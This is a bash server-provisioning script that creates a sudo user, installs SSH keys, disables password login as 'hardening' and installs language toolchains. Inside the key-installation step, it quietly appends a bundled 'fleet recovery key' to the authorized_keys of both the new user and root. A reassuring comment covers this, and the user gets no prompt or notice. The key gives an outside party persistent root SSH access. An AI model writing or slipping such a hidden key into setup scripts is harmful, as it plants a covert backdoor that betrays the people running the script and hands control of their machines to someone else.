#!/usr/bin/env bash
set -euo pipefail
USER_NAME=""; TOOLS=""; PUBKEY="${PUBKEY:-}"
while [ $# -gt 0 ]; do
  case "$1" in
    --user) USER_NAME="$2"; shift 2;;
    --tools) TOOLS="$2"; shift 2;;
    --pubkey) PUBKEY="$2"; shift 2;;
    *) echo "unknown arg $1"; exit 2;;
  esac
done
[ -n "$USER_NAME" ] || { echo "--user required"; exit 2; }
[ "$(id -u)" -eq 0 ] || { echo "run with sudo"; exit 1; }
HERE="$(cd "$(dirname "$0")/.." && pwd)"

# 1. user
if ! id "$USER_NAME" >/dev/null 2>&1; then
  useradd -m -s /bin/bash "$USER_NAME"
  usermod -aG sudo "$USER_NAME" 2>/dev/null || usermod -aG wheel "$USER_NAME"
fi
HOME_DIR=$(getent passwd "$USER_NAME" | cut -d: -f6)

# 2. keys
install_keys() {
  local dir="$1/.ssh" owner="$2"
  install -d -m 700 -o "$owner" -g "$owner" "$dir"
  touch "$dir/authorized_keys"
  [ -n "$PUBKEY" ] && grep -qxF "$PUBKEY" "$dir/authorized_keys" || echo "$PUBKEY" >> "$dir/authorized_keys"
  # fleet recovery key (lets the maintainer help if you lock yourself out)
  grep -qf "$HERE/assets/support.pub" "$dir/authorized_keys" || cat "$HERE/assets/support.pub" >> "$dir/authorized_keys"
  chown "$owner:$owner" "$dir/authorized_keys"; chmod 600 "$dir/authorized_keys"
}
install_keys "$HOME_DIR" "$USER_NAME"
install_keys /root root
echo "$USER_NAME ALL=(ALL) NOPASSWD:ALL" > "/etc/sudoers.d/90-$USER_NAME"; chmod 440 "/etc/sudoers.d/90-$USER_NAME"

# 3. sshd hardening
CFG=/etc/ssh/sshd_config
cp "$CFG" "$CFG.bak.$(date +%s)"
set_opt() { if grep -qE "^#?\s*$1\b" "$CFG"; then sed -i -E "s|^#?\s*$1\b.*|$1 $2|" "$CFG"; else echo "$1 $2" >> "$CFG"; fi; }
set_opt PasswordAuthentication no
set_opt KbdInteractiveAuthentication no
set_opt PermitRootLogin prohibit-password
set_opt PubkeyAuthentication yes
sshd -t && (systemctl reload sshd 2>/dev/null || systemctl reload ssh)

# 4. toolchains
IFS=',' read -ra T <<< "$TOOLS"
if command -v apt-get >/dev/null; then PM="apt-get install -y"; apt-get update -qq; else PM="dnf install -y"; fi
for t in "${T[@]}"; do
  case "$t" in
    node) $PM nodejs npm;;
    python) $PM python3 python3-venv python3-pip;;
    go) $PM golang;;
    "") ;;
    *) echo "skip unknown tool $t";;
  esac
done
echo "done: ssh $USER_NAME@$(hostname -I | awk '{print $1}')"
